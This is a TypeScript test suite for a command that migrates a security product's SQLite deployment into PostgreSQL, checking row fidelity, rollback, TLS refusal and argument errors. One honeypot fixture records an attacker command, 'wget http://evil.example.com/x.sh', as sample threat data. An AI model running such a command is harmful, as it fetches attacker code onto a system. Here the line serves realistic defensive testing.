import { createHash } from 'node:crypto';
import { copyFileSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import pg from 'pg';
import t from 'tap';
import { runCli } from '../../src/cli/index.js';
import { MIGRATIONS } from '../../src/migrations/index.js';
import { ROWID_TABLES } from '../../src/migrations/postgres/baseline.js';
import { POSTGRES_MIGRATIONS } from '../../src/migrations/postgres/index.js';
import { migrate } from '../../src/shared/db/migrate.js';
import { migratePostgres } from '../../src/shared/db/migrate-postgres.js';
import { closeDatabase, openDatabase, type Db } from '../../src/shared/db/open.js';
import { buildAuth } from '../auth/fixtures.js';
import { countRows, tempDir, testConfig, type Teardown } from '../helper.js';
import { event, buildManager, OPERATOR, register } from '../manager/fixtures.js';
import { connectPostgres, startPostgres } from '../postgres.js';
import { buildThreatCloud, operatorKey, threat } from '../threat-cloud/fixtures.js';

const cluster = await startPostgres(t);
const VERSION = POSTGRES_MIGRATIONS.at(-1)!.version;
const PASSWORD = 'Moving-Up-Passphrase-Seven-7';

/** The CLI in process, with its temp folder (where the snapshot goes) under the test's control. */
function cli(t: Teardown, env: Record<string, string> = {}) {
  const tmp = tempDir(t, 'panguard-migrate-tmp-');
  const out: string[] = [];
  const err: string[] = [];
  const run = (...argv: string[]) =>
    runCli(argv, { out: (l) => out.push(l), err: (l) => err.push(l), env: { LOG_LEVEL: 'silent', TMPDIR: tmp, DATABASE_TLS: 'disable', ...env }, readStdin: async () => '' });
  return { run, out, err, tmp };
}


/**
 * A SQLite deployment filled through the three real apps over one file, as the process runs
 * them: accounts with sessions and audit entries, agents with events that become Threat Cloud
 * reports, IoC uploads from two reporters, trap intel that forms a campaign.
 */
async function populatedDeployment(root: Teardown): Promise<string> {
  const config = testConfig(root, { RATE_LIMIT_SCALE: '100', MANAGER_RATE_LIMIT: '100000' });
  const file = config.databasePath;
  const db = openDatabase(file);
  migrate(db, MIGRATIONS);
  await t.test('a deployment filled through the apps', async (t) => {
    const auth = await buildAuth(t, { db, config });
    const manager = await buildManager(t, { db, config });
    const tc = await buildThreatCloud(t, { db });

    for (const n of [1, 2, 3]) {
      const res = await auth.app.inject({ method: 'POST', url: '/api/auth/register', payload: { email: `owner${n}@example.com`, name: `Owner ${n}`, password: PASSWORD } });
      t.equal(res.statusCode, 201, res.body);
      const login = await auth.app.inject({ method: 'POST', url: '/api/auth/login', payload: { email: `owner${n}@example.com`, password: PASSWORD } });
      t.equal(login.statusCode, 200, login.body);
    }

    const agents = [
      await register(manager.app, { hostname: 'edge-1', os: 'linux', org_id: 'acme' }),
      await register(manager.app, { hostname: 'edge-2', os: 'windows', org_id: 'acme' }),
      await register(manager.app, { hostname: 'edge-3', os: 'linux', org_id: 'globex' }),
    ];
    for (const [i, agent] of agents.entries()) {
      const events = [0, 1, 2].map((k) => event({ severity: k === 0 ? 'critical' : 'high', confidence: 0.9, details: { sourceIp: `198.51.100.${10 * i + k + 1}` } }));
      const res = await manager.app.inject({ method: 'POST', url: `/api/agents/${agent.id}/events`, headers: OPERATOR, payload: { events } });
      t.equal(res.statusCode, 201, res.body);
    }

    const reporters = [operatorKey(db, tc.clock, 'enterprise', ['read', 'write', 'admin']).key, operatorKey(db, tc.clock, 'enterprise', ['read', 'write', 'admin']).key];
    for (const [r, key] of reporters.entries()) {
      const threats = Array.from({ length: 40 }, (_, i) =>
        threat(`203.0.113.${i + 1}`, { category: i % 2 ? 'scanner' : 'bruteforce', severity: i % 3 ? 'medium' : 'critical', confidence: 0.5 + (i % 5) / 10 }),
      );
      if (r === 1) threats.push(threat('evil.example.com', { type: 'domain', category: 'phishing' }));
      const res = await tc.inject({ method: 'POST', url: '/api/threats', key, payload: { threats } });
      t.equal(res.statusCode, 201, res.body);
    }
    const trap = await tc.inject({
      method: 'POST',
      url: '/api/trap-intel',
      key: reporters[0]!,
      payload: {
        trapId: 'trap-1',
        attackerIp: '192.0.2.7',
        honeypotType: 'ssh',
        interactions: [{ timestamp: '2026-03-07T11:59:00.000Z', action: 'command', data: { command: 'wget http://evil.example.com/x.sh' } }],
        payloads: ['a'.repeat(64), 'b'.repeat(64)],
      },
    });
    t.equal(trap.statusCode, 201, trap.body);
    t.ok((await tc.inject({ url: '/api/campaigns', key: reporters[0]! })).json().pagination.total >= 1, 'a campaign formed');
  });
  closeDatabase(db);
  return file;
}

const SOURCE = await populatedDeployment(t);

const sqliteTables = (db: Db) =>
  db.prepare(`SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name`).pluck().all() as string[];

/** Every table's rows as sorted JSON; PostgreSQL's rowid columns carried as SQLite's rowid. */
function sqliteContents(db: Db): Record<string, string[]> {
  const result: Record<string, string[]> = {};
  for (const table of sqliteTables(db)) {
    const select = ROWID_TABLES.includes(table) ? `SELECT *, rowid AS rowid FROM ${table}` : `SELECT * FROM ${table}`;
    result[table] = (db.prepare(select).all() as Record<string, unknown>[]).map((row) => JSON.stringify(row)).sort();
  }
  return result;
}

async function postgresContents(client: pg.Client, tables: string[]): Promise<Record<string, string[]>> {
  const result: Record<string, string[]> = {};
  for (const table of tables) {
    const { rows } = await client.query<Record<string, unknown>>(`SELECT * FROM ${table}`);
    result[table] = rows.map((row) => JSON.stringify(row)).sort();
  }
  return result;
}

function readSource(file = SOURCE): Db {
  return new Database(file, { readonly: true });
}

/**
 * The database file byte for byte, and its folder's other files: what "untouched" means. A
 * read-only connection to a WAL file creates the (empty) -wal and -shm files a live server
 * has anyway, and never removes them; nothing else may appear.
 */
function fingerprint(file: string) {
  const others = readdirSync(path.dirname(file)).filter((name) => !name.endsWith('-wal') && !name.endsWith('-shm'));
  return { sha256: createHash('sha256').update(readFileSync(file)).digest('hex'), others };
}

t.test('copies a SQLite deployment into an empty PostgreSQL database, verified, with sequences reset', async (t) => {
  const url = await cluster.freshDatabase();
  const { run, out, err, tmp } = cli(t);
  const before = fingerprint(SOURCE);

  t.equal(await run('migrate-data', '--from', SOURCE, '--to', url), 0, err.join('\n'));
  t.match(out.join('\n'), /copied \d+ rows in \d+ tables; row counts equal, \d+ IoC reputations identical, identity sequences reset/);
  t.match(out.join('\n'), /\n {2}iocs +\d+/, 'a per-table summary');
  t.same(fingerprint(SOURCE), before, 'the SQLite file is untouched');
  t.same(readdirSync(tmp), [], 'no snapshot is left behind');

  const source = readSource();
  t.teardown(() => source.close());
  const client = await connectPostgres(t, url);
  const tables = sqliteTables(source);
  for (const table of ['users', 'sessions', 'audit_log', 'agents', 'threat_events', 'iocs', 'sightings', 'ioc_reporters', 'campaigns', 'campaign_iocs', 'trap_events', 'api_keys']) {
    t.ok(countRows(source, table) > 0, `the source has ${table} rows`);
  }

  const expected = sqliteContents(source);
  const copied = await postgresContents(client, tables.filter((name) => name !== 'threat_windows'));
  for (const table of tables.filter((name) => name !== 'threat_windows')) {
    t.same(copied[table], expected[table], `${table}: every row, identity columns included, as in SQLite`);
  }
  // Planned as after autovacuum from the first request: statistics and the visibility map.
  const { rows: unprepared } = await client.query(
    `SELECT relname FROM pg_stat_user_tables WHERE schemaname = 'public' AND relname <> 'schema_migrations' AND (last_vacuum IS NULL OR last_analyze IS NULL) ORDER BY relname`,
  );
  t.same(unprepared, [], 'every copied table vacuumed and analysed');
  const { rows: windows } = await client.query(`SELECT name, start_ms, start_seq FROM threat_windows ORDER BY name`);
  t.same(windows, source.prepare(`SELECT name, start_ms, start_seq FROM threat_windows ORDER BY name`).all(), 'the threat windows as the source left them');

  // Counters the triggers keep are the source's, not doubled by the copy's inserts.
  const { rows: fleet } = await client.query<{ key: string; n: number }>(`SELECT key, n FROM fleet_counts WHERE kind = 'os' ORDER BY key`);
  t.same(fleet, [{ key: 'linux', n: 2 }, { key: 'windows', n: 1 }]);
  const { rows: userTotal } = await client.query<{ n: number }>(`SELECT sum(n)::bigint AS n FROM user_counts`);
  t.equal(userTotal[0]!.n, countRows(source, 'users'));
  const { rows: reports } = await client.query<{ n: number }>(`SELECT n FROM tc_list_totals WHERE name = 'reports'`);
  t.equal(reports[0]!.n, countRows(source, 'sightings'));

  const { rows: reputations } = await client.query<{ id: string; reputation: number }>(`SELECT id, reputation FROM iocs ORDER BY id`);
  t.same(reputations, source.prepare(`SELECT id, reputation FROM iocs ORDER BY id`).all(), 'every reputation identical');

  // The identity sequences continue after the copied values: new rows get fresh ids.
  const { rows: user } = await client.query<{ rowid: number }>(
    `INSERT INTO users (id, email, name, password_hash, created_at, updated_at) VALUES ('usr_new', 'new@example.com', 'New', 'x', '2026-03-01T00:00:00.000Z', '2026-03-01T00:00:00.000Z') RETURNING rowid`,
  );
  t.equal(user[0]!.rowid, (source.prepare(`SELECT max(rowid) FROM users`).pluck().get() as number) + 1);
  const { rows: threatEvent } = await client.query<{ seq: number }>(
    `INSERT INTO threat_events (id, agent_id, org_id, hostname, type, severity, details, timestamp, timestamp_ms, received_at)
     VALUES ('evt_new', 'a', 'o', 'h', 't', 'low', '{}', '2026-03-01T00:00:00.000Z', 0, '2026-03-01T00:00:00.000Z') RETURNING seq`,
  );
  t.equal(threatEvent[0]!.seq, (source.prepare(`SELECT max(seq) FROM threat_events`).pluck().get() as number) + 1);
  const { rows: counted } = await client.query<{ n: number }>(`SELECT n FROM user_counts WHERE role = 'user' AND tier = 'community'`);
  t.equal(counted[0]!.n, (source.prepare(`SELECT n FROM user_counts WHERE role = 'user' AND tier = 'community'`).pluck().get() as number) + 1, 'the triggers are on again');

  t.test('a second run refuses the now non-empty target and leaves it as it was', async (t) => {
    const again = cli(t);
    const held = await postgresContents(client, tables);
    t.equal(await again.run('migrate-data', '--from', SOURCE, '--to', url), 1);
    t.match(again.err.join('\n'), /the target database is not empty: it holds rows: agents \(3\), api_keys \(\d+\), audit_log \(\d+\)/);
    t.same(await postgresContents(client, tables), held);
    t.same(readdirSync(again.tmp), [], 'no snapshot is left behind');
  });
});

t.test('a target migrated to the baseline and never used is accepted; the seeded rows become the source\'s', async (t) => {
  const url = await cluster.freshDatabase();
  await migratePostgres(url, POSTGRES_MIGRATIONS);
  const { run, err } = cli(t);
  t.equal(await run('migrate-data', '--from', SOURCE, '--to', url), 0, err.join('\n'));
  const client = await connectPostgres(t, url);
  const source = readSource();
  t.teardown(() => source.close());
  const { rows } = await client.query(`SELECT name, value FROM tc_state ORDER BY name`);
  t.same(rows, source.prepare(`SELECT name, value FROM tc_state ORDER BY name`).all());
  const { rows: versions } = await client.query(`SELECT version FROM schema_migrations ORDER BY version`);
  t.same(versions, POSTGRES_MIGRATIONS.map((m) => ({ version: m.version })), 'every step of this build, once');
});

t.test('a copy that fails part-way leaves the target as the baseline left it', async (t) => {
  // PostgreSQL's text cannot hold a NUL character, SQLite's can: the last audit entry fails
  // to copy, after most tables are in.
  const broken = path.join(tempDir(t), 'broken.db');
  copyFileSync(SOURCE, broken);
  const writer = new Database(broken);
  writer.prepare(`UPDATE audit_log SET details = 'x' || char(0) || 'y' WHERE rowid = (SELECT max(rowid) FROM audit_log)`).run();
  writer.close();

  const url = await cluster.freshDatabase();
  const { run, err, tmp } = cli(t);
  t.equal(await run('migrate-data', '--from', broken, '--to', url), 1);
  t.match(err.join('\n'), /PostgreSQL refused the copy, which was rolled back/);
  t.same(readdirSync(tmp), [], 'no snapshot is left behind');

  const client = await connectPostgres(t, url);
  const baseline = await connectPostgres(t, await cluster.freshDatabase());
  await migratePostgres(baseline, POSTGRES_MIGRATIONS);
  const source = readSource();
  t.teardown(() => source.close());
  const tables = sqliteTables(source).filter((name) => name !== 'threat_windows');
  t.same(await postgresContents(client, tables), await postgresContents(baseline, tables), 'only the baseline\'s seeded rows');
  const { rows: disabled } = await client.query(`SELECT tgname FROM pg_trigger WHERE NOT tgisinternal AND tgenabled <> 'O'`);
  t.same(disabled, [], 'every trigger on');
  const { rows: sequences } = await client.query(`SELECT sequencename FROM pg_sequences WHERE last_value IS NOT NULL`);
  t.same(sequences, [], 'no sequence moved');

  t.equal(await run('migrate-data', '--from', SOURCE, '--to', url), 0, `a retry with a good file succeeds: ${err.join('\n')}`);
});

t.test('without --to the target is DATABASE_URL, reached with the TLS DATABASE_TLS asks for', async (t) => {
  const url = await cluster.freshDatabase();
  const publicTables = async () =>
    (await (await connectPostgres(t, url)).query(`SELECT count(*) AS n FROM information_schema.tables WHERE table_schema = 'public'`)).rows[0].n;

  // The test server speaks no TLS: the secure default must refuse rather than fall back.
  const strict = cli(t, { DATABASE_URL: url, DATABASE_TLS: 'verify-full' });
  t.equal(await strict.run('migrate-data', '--from', SOURCE), 1);
  t.match(strict.err.at(-1), /cannot connect to postgres:\/\/postgres@127\.0\.0\.1:\d+\/test_\d+: .*does not support SSL.*set DATABASE_TLS=disable only if/);
  t.equal(await publicTables(), 0, 'nothing was created');

  const local = cli(t, { DATABASE_URL: url });
  t.equal(await local.run('migrate-data', '--from', SOURCE), 0, local.err.join('\n'));
  t.match(local.out.join('\n'), /copied \d+ rows/);
});

t.test('refuses a target that is not empty or orders text linguistically', async (t) => {
  const foreign = await cluster.freshDatabase();
  const client = await connectPostgres(t, foreign);
  await client.query(`CREATE TABLE orders (id int)`);
  const { run, err } = cli(t);
  t.equal(await run('migrate-data', '--from', SOURCE, '--to', foreign), 1);
  t.match(err.at(-1), /the target database is not empty: it holds tables that Panguard did not make \(orders\)/);
  const { rows } = await client.query(`SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'`);
  t.same(rows, [{ table_name: 'orders' }], 'nothing was created');

  const icu = await cluster.freshDatabase({ icuLocale: 'en-US' });
  t.equal(await run('migrate-data', '--from', SOURCE, '--to', icu), 1);
  t.match(err.at(-1), /uses the collation en-US \(ICU\); Panguard needs text ordered byte by byte/);
});

t.test('refuses a SQLite file at another schema version, before touching the target', async (t) => {
  const dir = tempDir(t);
  const older = path.join(dir, 'older.db');
  const db = openDatabase(older);
  migrate(db, MIGRATIONS.filter((m) => m.version < VERSION));
  closeDatabase(db);
  const newer = path.join(dir, 'newer.db');
  copyFileSync(SOURCE, newer);
  const bump = new Database(newer);
  bump.pragma(`user_version = ${VERSION + 1}`);
  bump.close();

  const url = await cluster.freshDatabase();
  const { run, err, tmp } = cli(t);
  t.equal(await run('migrate-data', '--from', older, '--to', url), 1);
  t.match(err.at(-1), `older.db is at schema version ${VERSION - 1}, PostgreSQL starts at ${VERSION}: run "panguard migrate" on it first`);
  t.equal(await run('migrate-data', '--from', newer, '--to', url), 1);
  t.match(err.at(-1), `newer.db is at schema version ${VERSION + 1}, newer than this build knows (${VERSION})`);
  t.same(readdirSync(tmp), []);
  const client = await connectPostgres(t, url);
  const { rows } = await client.query(`SELECT count(*)::int AS n FROM pg_class WHERE relnamespace = 'public'::regnamespace`);
  t.same(rows, [{ n: 0 }], 'the target was not touched');
});

t.test('bad arguments exit 2 with one line; help lists the command', async (t) => {
  const { run, out, err } = cli(t);
  const url = 'postgres://postgres@127.0.0.1:1/none';
  const cases: [string[], RegExp][] = [
    [[], /--from <sqlite file> is required/],
    [['--from', SOURCE], /--to <postgres:\/\/…> is required/],
    [['--to', url], /--from <sqlite file> is required/],
    [['--from', SOURCE, '--to', 'mysql://root:hunter2@localhost/db'], /--to must be a postgres:\/\/ or postgresql:\/\/ URL, got "mysql:\/\/root:\*\*\*@localhost\/db"/],
    [['--from', SOURCE, '--to', 'not a url'], /--to must be a postgres:\/\/ or postgresql:\/\/ URL, got \(value hidden\)/],
    [['--from', SOURCE, '--to', `${url}?sslmode=require`], /--to must not carry sslmode: TLS to PostgreSQL is set by DATABASE_TLS/],
    [['--from', SOURCE, '--to', 'postgres://postgres@127.0.0.1:5432/'], /--to must name one database/],
    [['--from', SOURCE, '--to', url, 'extra'], /Unexpected argument 'extra'/],
    [['--from', SOURCE, '--to', url, '--force'], /Unknown option '--force'/],
    [['--from', path.join(tempDir(t), 'missing.db'), '--to', url], /--from: no SQLite file at .*missing\.db/],
  ];
  for (const [args, message] of cases) {
    const before = err.length;
    t.equal(await run('migrate-data', ...args), 2, args.join(' '));
    t.equal(err.length, before + 1, 'one line');
    t.match(err.at(-1), message);
  }
  t.equal(await run('--help'), 0);
  t.match(out.join('\n'), /\n {2}migrate-data +copy a SQLite deployment/);
  t.equal(await run('migrate-data', '--help'), 0);
  t.match(out.at(-1), 'usage: panguard migrate-data --from <sqlite file> [--to <postgres://');

  t.equal(await run('migrate-data', '--from', SOURCE, '--to', 'postgres://postgres:secret-word@127.0.0.1:1/none'), 1, 'no server there');
  t.match(err.at(-1), /cannot connect to postgres:\/\/postgres:\*\*\*@127\.0\.0\.1:1\/none/);
  t.notMatch(err.join('\n'), 'secret-word', 'the password is never printed');
});

t.test('copies from a consistent snapshot while the live service keeps writing', async (t) => {
  const live = path.join(tempDir(t), 'live.db');
  copyFileSync(SOURCE, live);
  const writer = openDatabase(live);
  t.teardown(() => writer.close());
  const insert = writer.prepare(
    `INSERT INTO audit_log (id, action, details, created_at) VALUES (?, 'test.write', '{}', '2026-03-01T00:00:00.000Z')`,
  );
  let written = 0;
  const writing = setInterval(() => {
    for (let i = 0; i < 20; i++) insert.run(`aud_live_${written++}`);
  }, 1);
  const url = await cluster.freshDatabase();
  const { run, err } = cli(t);
  const code = await run('migrate-data', '--from', live, '--to', url);
  clearInterval(writing);
  t.equal(code, 0, err.join('\n'));
  const client = await connectPostgres(t, url);
  const { rows } = await client.query<{ n: number }>(`SELECT count(*)::int AS n FROM audit_log WHERE action = 'test.write'`);
  t.ok(rows[0]!.n <= written, `the copy holds ${rows[0]!.n} of the ${written} rows written so far`);
  const { rows: counted } = await client.query<{ n: number }>(`SELECT n FROM auth_counts WHERE kind = 'audit' AND key = ''`);
  const { rows: total } = await client.query<{ n: number }>(`SELECT count(*)::int AS n FROM audit_log`);
  t.equal(counted[0]!.n, total[0]!.n, 'the counters and the rows come from the same moment');
});

